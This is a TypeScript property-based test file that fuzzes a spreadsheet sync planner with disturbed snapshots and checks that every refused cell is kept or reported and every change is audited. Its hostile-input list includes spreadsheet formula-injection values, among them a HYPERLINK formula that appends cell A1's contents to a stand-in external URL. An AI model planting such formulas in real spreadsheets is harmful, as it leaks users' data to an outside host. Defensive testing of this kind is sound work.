/**
 * Property-based test of the pure sync planner: thousands of random snapshots — real headers
 * shuffled, columns dropped or doubled, cells of every CellValue type (huge texts, control
 * characters, lone surrogates, formulas, NaN, 1e308, invalid dates…), IDs kept, lost, copied,
 * invented or of another operator — planned against a realistic stored state. The planner must
 * never throw, must account for every cell it refuses (quarantine or report), and must audit
 * every change it makes. Regression cases below pin the adoption of rows whose ID never reached
 * the sheet.
 */
import fc from 'fast-check';
import {
  completeData,
  finalizeSync,
  planSync,
  rawText,
  RAW_MAX_LENGTH,
  type SyncPlan,
  type SyncRequest,
} from '../../../../../shared/domain/sync/plan-sync';
import { mapTabColumns } from '../../../../../shared/domain/sync/tab-columns';
import { sameJson } from '../../../../../shared/domain/sync/content-hash';
import { parseCell } from '../../../../../shared/domain/field-spec';
import { C2RA, OPERATOR_CODES, type WorkbookOwner } from '../../../../../shared/domain/operator';
import {
  formatRecordId,
  RECORD_KINDS,
  type RecordKind,
} from '../../../../../shared/domain/record-id';
import { isBlank, type CellValue } from '../../../../../shared/domain/values/cell-value';
import {
  kindsOwnedBy,
  RECORD_TABS,
  recordTabByName,
} from '../../../../../shared/domain/workbook-model';
import type {
  FieldJson,
  OwnerState,
  StoredRecord,
} from '../../../../../shared/domain/stored-record';
import type {
  SnapshotCell,
  SnapshotRow,
  TabSnapshot,
  WorkbookSnapshot,
} from '../../../../../shared/domain/workbook-snapshot';
import { syncWorkbook } from '../../../../../shared/use-cases/sync-workbook';
import { loadDemoData } from '../../../../../scripts/workspace-setup';
import { headerOf, JOURNAL_HEADER, rowOf } from '../../../../support/builders/workbook-rows';
import { InMemoryRecordStore } from '../../../../support/fakes/in-memory-record-store';
import { InMemoryWorkbookGateway } from '../../../../support/fakes/in-memory-workbook-gateway';
import { nastyCharacter } from '../../../../support/nasty-characters';

/**
 * How many times the default number of cases each property runs (a full reconcile plans a whole
 * workbook, about 30 ms; an edit a few rows): `DLA_FUZZ_SCALE=10` for a longer hunt.
 */
const SCALE = Number(process.env['DLA_FUZZ_SCALE'] ?? 1);
const RECONCILE_RUNS = Math.round(200 * SCALE);
const EDIT_RUNS = Math.round(800 * SCALE);
const NOW = new Date('2025-06-02T08:00:00.000Z');
const clock = { now: () => NOW };

/** One owner's world as the planner sees it before a sync. */
interface World {
  readonly owner: WorkbookOwner;
  readonly state: OwnerState;
  readonly register: readonly StoredRecord[];
  readonly snapshot: WorkbookSnapshot;
}

/** A demo workspace (small scale) synced into an in-memory store: the starting point of every case. */
async function demoWorlds(): Promise<Record<'C2RA' | 'CBE-LM', World>> {
  const store = new InMemoryRecordStore();
  const gateway = new InMemoryWorkbookGateway();
  for (const owner of [C2RA, ...OPERATOR_CODES] as const) {
    for (const kind of kindsOwnedBy(owner)) {
      gateway.setTab(owner, RECORD_TABS[kind].tab, headerOf(kind));
    }
    gateway.setTab(owner, 'Journal', JOURNAL_HEADER);
  }
  const loaded = await loadDemoData({ store, gateway, clock }, { seed: 11, scale: 0.3 });
  if (!loaded.ok) throw new Error(loaded.error.message);
  const worldOf = async (owner: 'C2RA' | 'CBE-LM'): Promise<World> => {
    const snapshot = await gateway.read(owner);
    if (!snapshot.ok) throw new Error(snapshot.error.message);
    return {
      owner,
      state: await store.loadOwner(owner),
      register: await store.loadRegister(),
      snapshot: snapshot.value,
    };
  };
  return { C2RA: await worldOf(C2RA), 'CBE-LM': await worldOf('CBE-LM') };
}

// ------------------------------------------------------------------------------ arbitraries

/** Values that parse in some column of some tab, so that valid changes happen too. */
const PLAUSIBLE: readonly CellValue[] = [
  '59000',
  '62300',
  '12/03/2024',
  '2024-03-12',
  '31/02/2025',
  45352,
  'Culture',
  'Sport',
  'Association loi 1901',
  'SARL',
  'W595012345',
  '732 829 320 00074',
  '44306184100047',
  '03 20 12 34 56',
  'claire.ambroise@ambroise-conseil.fr',
  '1 500,00 €',
  '6 000,00 €',
  3.5,
  'Oui',
  'Non',
  'Retenu',
  'En cours',
  'Modèle économique, Gestion financière',
  'Individuelle',
  'STR-CBE-LM-0001',
  'ACC-CBE-LM-0001',
  'MIS-CBE-LM-0001',
  'PRE-0001',
  'MIS-EE-DK-0001',
];

/** Any CellValue a spreadsheet adapter could hand over, and some it should not. */
const cellValue: fc.Arbitrary<CellValue> = fc.oneof(
  { weight: 3, arbitrary: fc.constant(null) },
  { weight: 6, arbitrary: fc.constantFrom(...PLAUSIBLE) },
  { weight: 3, arbitrary: fc.string({ unit: nastyCharacter, maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '=HYPERLINK("https://exemple.invalid/?x="&A1;"cliquez")',
      '=1+1',
      '+33 3 21 00 11 22',
      '@SUM(A1:A9)',
      '-2+3',
      '   ',
      '',
    ),
  },
  {
    weight: 1,
    arbitrary: fc
      .integer({ min: 250, max: 60_000 })
      .chain((n) => fc.constantFrom('x', 'é', '\u0007').map((c) => c.repeat(n))),
  },
  { weight: 2, arbitrary: fc.double() },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      Number.NaN,
      Infinity,
      -Infinity,
      -0,
      1e308,
      -1e308,
      5e-324,
      2 ** 53 + 1,
    ),
  },
  { weight: 2, arbitrary: fc.integer({ min: -100_000, max: 2_000_000 }) },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.date({ noInvalidDate: false }) },
);

/** What may sit in the ID column. */
function idValue(world: World): fc.Arbitrary<CellValue> {
  const ids = world.state.records.map((r) => r.id);
  return fc.oneof(
    { weight: 3, arbitrary: fc.constant(null) },
    { weight: 4, arbitrary: fc.constantFrom(...ids) },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        'MIS-EE-DK-0001',
        'STR-CBE-LM-9999',
        'PRE-9999',
        'mis-cbe-lm-0001',
        ' STR-CBE-LM-0001 ',
        'ZZZ-0001',
        'MIS-CBE-LM-1',
      ),
    },
    { weight: 1, arbitrary: cellValue },
  );
}

/** How one tab of the clean snapshot is disturbed. */
interface TabRecipe {
  readonly include: boolean;
  readonly columnKeys: readonly number[];
  readonly dropColumns: readonly number[];
  readonly extraHeaders: readonly string[];
  readonly dropRows: readonly number[];
  readonly ids: readonly { row: number; id: CellValue }[];
  readonly cells: readonly { row: number; col: number; value: CellValue }[];
  readonly newRows: readonly (readonly CellValue[])[];
  readonly rowKeys: readonly number[];
  readonly notes: readonly { row: number; col: number; note: string }[];
}

function tabRecipe(world: World): fc.Arbitrary<TabRecipe> {
  const index = fc.nat({ max: 10_000 });
  return fc.record({
    include: fc.oneof({ weight: 5, arbitrary: fc.constant(true) }, fc.constant(false)),
    columnKeys: fc.array(fc.nat(), { minLength: 40, maxLength: 40 }),
    dropColumns: fc.array(index, { maxLength: 2 }),
    extraHeaders: fc.array(
      fc.oneof(
        fc.constantFrom(
          'ID',
          'id',
          'Statut',
          'Colonne perso',
          'RAISON SOCIALE',
          'Nom de la structure',
        ),
        fc.string({ unit: nastyCharacter, maxLength: 12 }),
      ),
      { maxLength: 2 },
    ),
    dropRows: fc.array(index, { maxLength: 3 }),
    ids: fc.array(fc.record({ row: index, id: idValue(world) }), { maxLength: 4 }),
    cells: fc.array(fc.record({ row: index, col: index, value: cellValue }), { maxLength: 25 }),
    newRows: fc.array(fc.array(cellValue, { maxLength: 30 }), { maxLength: 4 }),
    rowKeys: fc.array(fc.nat(), { minLength: 60, maxLength: 60 }),
    notes: fc.array(
      fc.record({
        row: index,
        col: index,
        note: fc.constantFrom('⛔ Ancienne erreur', 'ℹ Ancienne info', 'note perso'),
      }),
      { maxLength: 2 },
    ),
  });
}

/** Sorts items by random keys (a permutation driven by the recipe). */
function permute<T>(items: readonly T[], keys: readonly number[]): T[] {
  return items
    .map((item, i) => ({ item, key: keys[i % keys.length] ?? 0, i }))
    .sort((a, b) => a.key - b.key || a.i - b.i)
    .map((x) => x.item);
}

/** Applies a recipe to a clean tab: new header order, disturbed rows, new row numbers. */
function disturbTab(tab: TabSnapshot, recipe: TabRecipe): TabSnapshot {
  let labels: string[] = permute(tab.header, recipe.columnKeys);
  if (labels.length > 2) {
    const dropped = new Set(recipe.dropColumns.map((d) => labels[d % labels.length]));
    labels = labels.filter((l) => !dropped.has(l));
  }
  labels.push(...recipe.extraHeaders);
  const byLabel = (row: SnapshotRow): Map<string, SnapshotCell> =>
    new Map(tab.header.map((label, i) => [label, row.cells[i] ?? { value: null }]));
  const dropRows = new Set(recipe.dropRows.map((d) => d % Math.max(1, tab.rows.length)));
  const rows: SnapshotCell[][] = tab.rows
    .filter((_, i) => !dropRows.has(i))
    .map((row) => {
      const cells = byLabel(row);
      return labels.map((label) => ({ value: cells.get(label)?.value ?? null }));
    });
  for (const values of recipe.newRows) {
    rows.push(labels.map((_, i) => ({ value: i === 0 ? null : (values[i] ?? null) })));
  }
  const width = labels.length;
  const idColumn = labels.indexOf('ID');
  const set = (row: number, col: number, cell: SnapshotCell) => {
    const line = rows[row % Math.max(1, rows.length)];
    if (line !== undefined && width > 0) line[col % width] = cell;
  };
  for (const { row, col, value } of recipe.cells) set(row, col, { value });
  if (idColumn >= 0) for (const { row, id } of recipe.ids) set(row, idColumn, { value: id });
  for (const { row, col, note } of recipe.notes) {
    const line = rows[row % Math.max(1, rows.length)];
    const cell = line?.[col % Math.max(1, width)];
    if (line !== undefined && cell !== undefined) line[col % width] = { value: cell.value, note };
  }
  const ordered = permute(rows, recipe.rowKeys);
  return {
    name: tab.name,
    header: labels,
    rows: ordered.map((cells, i) => ({ rowNumber: i + 2, cells })),
  };
}

/** A whole random workbook: each tab disturbed, plus a tab of nonsense and one of another owner. */
function snapshotOf(world: World): fc.Arbitrary<WorkbookSnapshot> {
  const tabs = world.snapshot.tabs;
  return fc
    .record({
      recipes: fc.tuple(...tabs.map(() => tabRecipe(world))),
      stray: fc.option(
        fc.record({
          name: fc.constantFrom('Registre', 'Structures', 'Feuille 3', ''),
          header: fc.array(fc.string({ maxLength: 8 }), { maxLength: 5 }),
          rows: fc.array(fc.array(cellValue, { maxLength: 5 }), { maxLength: 3 }),
        }),
        { freq: 4 },
      ),
    })
    .map(({ recipes, stray }) => {
      const disturbed = tabs.flatMap((tab, i) => {
        const recipe = recipes[i];
        return recipe === undefined || !recipe.include ? [] : [disturbTab(tab, recipe)];
      });
      if (stray !== null && !disturbed.some((t) => t.name === stray.name)) {
        disturbed.push({
          name: stray.name,
          header: stray.header,
          rows: stray.rows.map((values, i) => ({
            rowNumber: i + 2,
            cells: values.map((value) => ({ value })),
          })),
        });
      }
      return { owner: world.owner, tabs: disturbed };
    });
}

/** The instant of the planned change: before, at or after the stored field times. */
const instant = fc.constantFrom(
  '2025-06-01T08:00:00.000Z',
  NOW.toISOString(),
  '2025-06-02T09:30:00.000Z',
);

// ------------------------------------------------------------------------------ properties

/** IDs the store would allocate for the plan's new records. */
function allocate(plan: SyncPlan): Record<RecordKind, string[]> {
  const ids = {} as Record<RecordKind, string[]>;
  const owner = plan.request.owner;
  for (const kind of RECORD_KINDS) {
    ids[kind] = Array.from({ length: plan.idsNeeded[kind] }, (_, i) =>
      formatRecordId({
        kind,
        operator: kind === 'provider' || owner === C2RA ? null : owner,
        sequence: 9000 + i,
      }),
    );
  }
  return ids;
}

/**
 * Every cell the planner must refuse — it fails its field's parser, in a row the planner
 * reads — shows up either in the plan's quarantine (tab, row, column, raw value) or in the
 * report of refused cells for its row. Answers what is missing.
 */
function unaccountedRefusals(request: SyncRequest, plan: SyncPlan): string[] {
  const missing: string[] = [];
  const owned = new Set(kindsOwnedBy(request.owner));
  const edit = request.edit;
  for (const tab of request.snapshot.tabs) {
    const recordTab = recordTabByName(tab.name);
    if (!recordTab || !owned.has(recordTab.kind)) continue;
    if (edit && edit.tab !== tab.name) continue;
    const columns = mapTabColumns(recordTab, tab);
    if (columns.idIndex === null) continue;
    const edited = edit ? new Set(edit.columns) : null;
    for (const row of tab.rows) {
      const valueAt = (i: number): CellValue => row.cells[i]?.value ?? null;
      const idRaw = valueAt(columns.idIndex);
      const hasContent = [...columns.fieldIndexes.values()].some((i) => !isBlank(valueAt(i)));
      if (isBlank(idRaw) && !hasContent) continue;
      for (const [key, index] of columns.fieldIndexes) {
        // An edit of an identified row applies the edited columns only.
        if (edited && !isBlank(idRaw) && !edited.has(index)) continue;
        const spec = recordTab.fields[key];
        if (!spec) continue;
        const raw = valueAt(index);
        const parsed = parseCell(spec, raw);
        if (parsed.ok) continue;
        // An empty required cell of a new row is unfinished work: the row waits, nothing is kept.
        if (isBlank(idRaw) && parsed.error.code === 'REQUIRED') continue;
        const reported = plan.report.rejected.some(
          (r) => r.tab === tab.name && r.row === row.rowNumber,
        );
        const kept = plan.quarantine.some(
          (q) =>
            q.tab === tab.name &&
            q.row === row.rowNumber &&
            q.column === spec.label &&
            q.raw === rawText(raw),
        );
        if (!reported && !kept)
          missing.push(`${tab.name}!${row.rowNumber} « ${spec.label} » ${parsed.error.code}`);
      }
    }
  }
  return missing;
}

/**
 * Every change the change set makes has its audit entry (old → new), and replaying the audit on
 * the stored data gives the written data. Answers what is missing.
 */
function unauditedChanges(request: SyncRequest, plan: SyncPlan): string[] {
  const outcome = finalizeSync(plan, allocate(plan));
  const problems: string[] = [];
  const storedById = new Map(request.state.records.map((r) => [r.id, r]));
  const puts = new Set(outcome.changeSet.puts.map((p) => p.record.id));
  for (const entry of outcome.changeSet.audit) {
    if (!puts.has(entry.recordId)) problems.push(`audit of ${entry.recordId} without a put`);
  }
  for (const { record, expectedVersion } of outcome.changeSet.puts) {
    const stored = storedById.get(record.id) ?? null;
    const audit = outcome.changeSet.audit.filter((a) => a.recordId === record.id);
    if (expectedVersion !== (stored?.version ?? 0))
      problems.push(`${record.id}: expected version ${expectedVersion}`);
    if (record.owner !== request.owner) problems.push(`${record.id}: owner ${record.owner}`);
    if (stored === null && !audit.some((a) => a.field === '@created'))
      problems.push(`${record.id}: created without @created`);
    if (stored !== null && stored.archived !== record.archived) {
      const field = record.archived ? '@archived' : '@restored';
      if (!audit.some((a) => a.field === field)) problems.push(`${record.id}: no ${field}`);
    }
    const replayed: Record<string, FieldJson> = stored
      ? { ...completeData(record.kind, stored.data) }
      : completeData(record.kind, {});
    for (const key of Object.keys(RECORD_TABS[record.kind].fields)) {
      const before = stored?.data[key] ?? null;
      const after = record.data[key] ?? null;
      if (sameJson(before, after)) continue;
      const entry = audit.find((a) => a.field === key);
      if (!entry) problems.push(`${record.id}.${key}: changed without audit`);
      else if (!sameJson(entry.oldValue, before) || !sameJson(entry.newValue, after))
        problems.push(`${record.id}.${key}: audit says something else`);
    }
    for (const entry of audit)
      if (!entry.field.startsWith('@')) replayed[entry.field] = entry.newValue;
    if (!sameJson(replayed, completeData(record.kind, record.data)))
      problems.push(`${record.id}: audit replay differs from the written data`);
  }
  // A refused cell keeps at most RAW_MAX_LENGTH characters; a refused row keeps each of its cells so.
  for (const q of outcome.changeSet.quarantine) {
    if (q.raw.length <= RAW_MAX_LENGTH) continue;
    const cells: unknown = JSON.parse(q.raw);
    const bounded =
      Array.isArray(cells) &&
      cells.every((c) => typeof c === 'string' && c.length <= RAW_MAX_LENGTH);
    if (!bounded) problems.push(`quarantine raw of ${q.raw.length} chars`);
  }
  return problems;
}

let casesRun = 0;

function check(request: SyncRequest): void {
  casesRun += 1;
  const plan = planSync(request);
  const refusals = unaccountedRefusals(request, plan);
  const audit = unauditedChanges(request, plan);
  if (refusals.length > 0 || audit.length > 0) {
    throw new Error([...refusals, ...audit].slice(0, 10).join('\n'));
  }
}

describe('planSync under random snapshots (fast-check)', () => {
  let worlds: Record<'C2RA' | 'CBE-LM', World>;

  beforeAll(async () => {
    worlds = await demoWorlds();
    expect(worlds['CBE-LM'].state.records.length).toBeGreaterThan(10);
    expect(worlds.C2RA.state.records.length).toBeGreaterThan(10);
  });

  afterAll(() => {
    console.log(
      `[plan-sync fuzz] ${casesRun} random snapshots planned: no throw, every refusal kept or reported, every change audited`,
    );
  });

  it.each(['CBE-LM', 'C2RA'] as const)(
    'full reconcile of a disturbed %s workbook',
    (owner) => {
      const world = worlds[owner];
      fc.assert(
        fc.property(snapshotOf(world), instant, (snapshot, at) => {
          check({
            owner,
            snapshot,
            state: world.state,
            register: world.register,
            at,
            today: '2025-06-02',
            actor: { who: 'fuzz', source: 'reconcile' },
            eventId: null,
            edit: null,
          });
        }),
        { numRuns: RECONCILE_RUNS, seed: owner === C2RA ? 4242 : 2007 },
      );
    },
    60_000 * Math.max(1, SCALE),
  );

  it.each(['CBE-LM', 'C2RA'] as const)(
    'edit events of a disturbed %s workbook (edited columns, other rows’ IDs)',
    (owner) => {
      const world = worlds[owner];
      const ids = world.state.records.map((r) => r.id);
      fc.assert(
        fc.property(
          snapshotOf(world),
          fc.nat(),
          fc.array(fc.nat({ max: 60 }), { minLength: 1, maxLength: 4 }),
          fc.subarray(ids, { maxLength: Math.min(20, ids.length) }),
          instant,
          (snapshot, tabIndex, columns, others, at) => {
            const tab = snapshot.tabs[tabIndex % Math.max(1, snapshot.tabs.length)];
            if (tab === undefined) return;
            const width = Math.max(1, tab.header.length);
            check({
              owner,
              snapshot: { owner, tabs: [{ ...tab, rows: tab.rows.slice(0, 5) }] },
              state: world.state,
              register: world.register,
              at,
              today: '2025-06-02',
              actor: { who: 'fuzz@exemple.fr', source: 'edit' },
              eventId: `evt-fuzz-${casesRun}`,
              edit: {
                tab: tab.name,
                columns: [...new Set(columns.map((c) => c % width))],
                otherRowIds: others.map((id, i) => ({ row: 1000 + i, id })),
              },
            });
          },
        ),
        { numRuns: EDIT_RUNS, seed: owner === C2RA ? 99 : 1789 },
      );
    },
    60_000 * Math.max(1, SCALE),
  );
});

describe('rows whose ID never reached the sheet are adopted, never duplicated', () => {
  async function registerWith(rows: Readonly<Record<string, CellValue>>[]) {
    const store = new InMemoryRecordStore();
    const gateway = new InMemoryWorkbookGateway();
    gateway.setTab(
      C2RA,
      'Registre',
      headerOf('provider'),
      rows.map((r) => rowOf('provider', r)),
    );
    const ports = { store, gateway, clock };
    const first = await syncWorkbook(ports, C2RA, 'test');
    if (!first.ok) throw new Error(first.error.message);
    // The crash: the store has the records, the sheet never got their IDs.
    rows.forEach((_, i) => gateway.type(C2RA, 'Registre', i + 2, 'ID', null));
    const second = await syncWorkbook(ports, C2RA, 'test');
    if (!second.ok) throw new Error(second.error.message);
    return { store, gateway, first: first.value, second: second.value };
  }

  it('adopts each of several identical rows once', async () => {
    const { store, gateway, second } = await registerWith([
      { legalName: 'À compléter' },
      { legalName: 'À compléter' },
      { legalName: 'À compléter' },
    ]);
    expect(second).toMatchObject({ created: 0, archived: 0 });
    expect(store.records.size).toBe(3);
    expect(gateway.column(C2RA, 'Registre', 'ID')).toEqual(['PRE-0001', 'PRE-0002', 'PRE-0003']);
  });

  it('adopts a row holding a refused cell, with the refusal it already kept', async () => {
    const { store, gateway, first, second } = await registerWith([
      { legalName: 'Atelier Flandre Conseil', postalCode: 'XX', town: 'Dunkerque' },
      { legalName: 'Opale Stratégies', siret: '123', town: 'Calais' },
    ]);
    expect(first.rejected).toHaveLength(2);
    expect(second).toMatchObject({ created: 0, archived: 0 });
    expect(store.records.size).toBe(2);
    expect(gateway.column(C2RA, 'Registre', 'ID')).toEqual(['PRE-0001', 'PRE-0002']);
    expect(second.rejected.map((r) => r.id)).toEqual(['PRE-0001', 'PRE-0002']);
    expect(store.quarantine.size).toBe(2);
  });
});
